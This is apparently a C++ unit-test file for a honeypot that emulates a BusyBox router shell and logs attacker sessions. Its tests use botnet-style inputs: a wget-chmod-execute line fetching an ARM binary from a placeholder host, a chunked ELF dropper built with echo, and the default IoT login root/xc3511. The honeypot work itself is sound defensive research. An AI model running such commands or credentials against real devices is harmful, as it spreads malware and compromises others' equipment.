#include <gtest/gtest.h>

#include "honeypot/session/honeypot_events.h"
#include "honeypot/session/shell_session.h"
#include "honeypot/shell/persona.h"
#include "support/recording_collector.h"

namespace kansoku::honeypot {
namespace {

std::shared_ptr<const shell::Persona> routerPersona() {
    auto persona = shell::Persona::load(std::string(KANSOKU_SOURCE_DIR) + "/rules/personas/tplink-wr841n-mips.toml");
    if (!persona) {
        throw std::runtime_error(persona.error().message);
    }
    return std::make_shared<const shell::Persona>(std::move(*persona));
}

SessionContext context() {
    return SessionContext{"00000000000000a1", "telnet", "198.51.100.7", 40000, 23, "203.0.113.5"};
}

TEST(ShellSession, LoginAttemptsAreNumberedEvents) {
    testing::RecordingCollector collector;
    ShellSession session(collector, context(), routerPersona());
    session.connected();
    session.loginAttempt("root", "admin", false);
    session.loginAttempt("root", "xc3511", true);
    ASSERT_EQ(collector.ofType("honeypot.connect").size(), 1u);
    const auto logins = collector.ofType("honeypot.login");
    ASSERT_EQ(logins.size(), 2u);
    EXPECT_EQ(logins[0].fields["password"], "admin");
    EXPECT_EQ(logins[0].fields["success"], false);
    EXPECT_EQ(logins[0].fields["attempt"], 1);
    EXPECT_EQ(logins[1].fields["success"], true);
    EXPECT_EQ(logins[1].fields["attempt"], 2);
    EXPECT_EQ(logins[1].fields["session"], "00000000000000a1");
    EXPECT_EQ(logins[1].fields["src"], "198.51.100.7");
    EXPECT_FALSE(logins[1].fields.contains("method"));
}

TEST(ShellSession, WelcomeIsTheAshBannerAndPrompt) {
    testing::RecordingCollector collector;
    ShellSession session(collector, context(), routerPersona());
    const std::string text = session.welcome();
    EXPECT_NE(text.find("BusyBox v1.19.4"), std::string::npos) << text;
    EXPECT_NE(text.find("built-in shell (ash)"), std::string::npos) << text;
    EXPECT_EQ(text.find("multi-call binary"), std::string::npos) << text;
    EXPECT_TRUE(text.ends_with(session.shell().prompt())) << text;
}

TEST(ShellSession, CommandsBecomeEventsAndDownloadsGoToTheCollector) {
    testing::RecordingCollector collector;
    ShellSession session(collector, context(), routerPersona());
    auto result = session.runLine("cd /tmp; wget http://192.0.2.9/bins/x.arm7 -O x; chmod 777 x; ./x telnet.arm");
    EXPECT_FALSE(result.close);
    EXPECT_TRUE(result.output.ends_with(session.shell().prompt()));
    ASSERT_EQ(collector.downloads().size(), 1u);
    EXPECT_EQ(collector.downloads()[0].url, "http://192.0.2.9/bins/x.arm7");
    EXPECT_EQ(collector.downloads()[0].tool, "wget");
    EXPECT_EQ(collector.downloads()[0].output_path, "/tmp/x");
    ASSERT_EQ(collector.executions().size(), 1u);
    EXPECT_EQ(collector.executions()[0].path, "/tmp/x");
    EXPECT_EQ(collector.executions()[0].argv, (std::vector<std::string>{"./x", "telnet.arm"}));
    EXPECT_EQ(collector.downloads()[0].session, "00000000000000a1");
    const auto commands = collector.ofType("honeypot.command");
    ASSERT_EQ(commands.size(), 1u);
    EXPECT_EQ(commands[0].fields["interactive"], true);
    EXPECT_EQ(commands[0].fields["executed"].size(), 1u);
    EXPECT_EQ(commands[0].fields["commands"][1], "wget");
}

TEST(ShellSession, ExecRequestsGetNoPrompt) {
    testing::RecordingCollector collector;
    ShellSession session(collector, context(), routerPersona());
    auto result = session.runLine("echo hi", false, false);
    EXPECT_EQ(result.output, "hi\n");
    EXPECT_EQ(collector.ofType("honeypot.command")[0].fields["interactive"], false);
}

TEST(ShellSession, AFileBuiltInChunksIsReportedOnceWholeWhenRun) {
    testing::RecordingCollector collector;
    ShellSession session(collector, context(), routerPersona());
    session.runLine("cd /tmp; echo -ne '\\x7f\\x45\\x4c\\x46' > .d");
    session.runLine("echo -ne '\\x01\\x02' >> .d");
    EXPECT_TRUE(collector.files().empty()) << "reported before the loader finished";
    session.runLine("chmod 777 .d; ./.d");
    ASSERT_EQ(collector.files().size(), 1u);
    EXPECT_EQ(collector.files()[0].path, "/tmp/.d");
    EXPECT_EQ(collector.files()[0].content, std::string("\x7f"
                                                        "ELF\x01\x02",
                                                        6));
    session.close();
    EXPECT_EQ(collector.files().size(), 1u) << "reported twice";
}

TEST(ShellSession, FilesNeverRunAreReportedAtCloseEvenWhenDeleted) {
    testing::RecordingCollector collector;
    ShellSession session(collector, context(), routerPersona());
    session.runLine("echo -ne 'payload-one' > /tmp/a; echo two > /tmp/b; rm /tmp/b");
    EXPECT_TRUE(collector.files().empty());
    session.close();
    ASSERT_EQ(collector.files().size(), 2u);
    EXPECT_EQ(collector.files()[0].path, "/tmp/a");
    EXPECT_EQ(collector.files()[0].content, "payload-one");
    EXPECT_EQ(collector.files()[1].path, "/tmp/b");
    EXPECT_EQ(collector.files()[1].content, "two\n");
    session.close();
    EXPECT_EQ(collector.files().size(), 2u);
}

TEST(ShellSession, PendingFilesAreBoundedByTheShellFilesystemBudget) {
    testing::RecordingCollector collector;
    shell::ShellLimits limits;
    limits.fs.max_total_bytes = 64;
    limits.fs.max_file_bytes = 40;
    ShellSession session(collector, context(), routerPersona(), limits);
    // Each file is deleted after writing, so the shell's own budget never fills, but what the session
    // holds for reporting must stay bounded: older files are reported early.
    for (int i = 0; i < 10; ++i) {
        session.runLine("echo -n 0123456789012345678901234567890 > /tmp/f" + std::to_string(i) + "; rm /tmp/f" +
                        std::to_string(i));
    }
    EXPECT_GE(collector.files().size(), 8u);
    session.close();
    EXPECT_EQ(collector.files().size(), 10u);
}

TEST(ShellSession, ExitClosesWithoutAPrompt) {
    testing::RecordingCollector collector;
    ShellSession session(collector, context(), routerPersona());
    auto result = session.runLine("exit");
    EXPECT_TRUE(result.close);
    EXPECT_EQ(result.output.find(session.shell().prompt()), std::string::npos);
}

TEST(ShellSession, ExecStdinWrittenToAFileIsAnUpload) {
    testing::RecordingCollector collector;
    ShellSession session(collector, context(), routerPersona());
    const std::string payload("\x7f"
                              "ELF\x01\x02 payload",
                              14);
    auto result = session.runLine("cat > /tmp/p3; chmod +x /tmp/p3; /tmp/p3; echo x > /tmp/note", false, false,
                                  std::string_view(payload));
    ASSERT_EQ(collector.files().size(), 1u); // /tmp/note stays pending until close, as every shell write
    EXPECT_EQ(collector.files()[0].path, "/tmp/p3");
    EXPECT_EQ(collector.files()[0].content, payload);
    EXPECT_EQ(collector.files()[0].via, "stdin");
    ASSERT_EQ(collector.executions().size(), 1u);
    session.close();
    ASSERT_EQ(collector.files().size(), 2u);
    EXPECT_EQ(collector.files()[1].via, ""); // written by echo: a shell write
    EXPECT_EQ(session.uploads().files(), 1u);
}

TEST(ShellSession, UploadsAreBoundedPerSessionAndCounted) {
    testing::RecordingCollector collector;
    UploadLimits limits;
    limits.max_file_bytes = 100;
    limits.max_files = 2;
    limits.max_total_bytes = 150;
    ShellSession session(collector, context(), routerPersona(), {}, limits);
    EXPECT_EQ(session.upload("/tmp/a", std::string(101, 'a'), 0644, "scp"), shell::FsStatus::FileTooLarge);
    EXPECT_EQ(session.upload("/tmp/b", std::string(100, 'b'), 0755, "sftp"), shell::FsStatus::Ok);
    EXPECT_EQ(session.upload("/tmp/c", std::string(60, 'c'), 0644, "sftp"), shell::FsStatus::NoSpace);
    EXPECT_EQ(session.upload("/no/such/dir/d", "d", 0644, "sftp"), shell::FsStatus::NotFound);
    EXPECT_EQ(session.upload("/tmp", "e", 0644, "scp"), shell::FsStatus::IsDirectory);
    EXPECT_EQ(session.upload("/tmp/f", std::string(10, 'f'), 0644, "scp"), shell::FsStatus::Ok);
    EXPECT_EQ(session.upload("/tmp/g", "g", 0644, "scp"), shell::FsStatus::TooManyFiles);
    EXPECT_EQ(session.uploads().hits().total(), 3u);
    ASSERT_EQ(collector.files().size(), 2u);
    EXPECT_EQ(collector.files()[0].via, "sftp");
    EXPECT_EQ(collector.files()[1].via, "scp");
    EXPECT_EQ(session.shell().filesystem().stat("/tmp/b")->mode, 0755u);
    // The shell sees what was uploaded.
    auto ls = session.runLine("ls -l /tmp/b", false, false);
    EXPECT_NE(ls.output.find("rwxr-xr-x"), std::string::npos) << ls.output;
}

} // namespace
} // namespace kansoku::honeypot
